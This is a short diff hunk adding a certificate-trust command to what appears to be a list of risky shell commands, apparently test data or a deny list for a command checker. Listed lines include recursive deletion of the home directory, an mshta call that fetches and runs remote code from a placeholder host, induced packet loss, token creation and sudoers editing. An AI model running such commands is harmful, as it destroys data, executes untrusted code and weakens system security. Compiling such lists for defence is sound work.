@@ -86,6 +86,7 @@ faketime yesterday rm -rf ~
 mshta http://x.example.net/x.hta
 tc qdisc add dev eth0 root netem loss 50%
 npm token create
+security add-trusted-cert -d x.crt
 visudo
 hg purge
 hg update -C
